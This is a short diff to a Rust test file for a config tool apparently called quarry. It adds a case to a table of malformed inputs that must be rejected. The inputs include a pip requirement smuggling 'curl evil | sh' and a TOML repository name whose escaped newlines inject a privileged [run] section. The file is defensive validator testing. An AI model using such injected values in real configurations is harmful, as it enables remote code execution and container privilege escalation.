@@ -257,6 +257,12 @@ fn mistakes_name_the_file_and_line_and_write_nothing() {
             "pip = [\"rich'; curl evil | sh; '\"]",
             "is not a requirement quarry accepts",
         ),
+        (
+            "repository-injection",
+            "quarry.toml",
+            r#"apt_repositories = [{ name = "ros\"\nkey_url = \"https://example.org/k.gpg\"\nsource = \"deb https://example.org/ros main\"\n[run]\nargs = [\"--privileged\"]\n[x]\n#", key_url = "https://example.org/k.gpg", source = "deb https://example.org/ros main" }]"#,
+            "`apt_repositories.name`: \"ros\\\"\\nkey_url",
+        ),
         ("bad-layer", "quarry.toml", "apt = { later = [\"git\"] }", "has no layer `later`"),
         (
             "template-syntax",
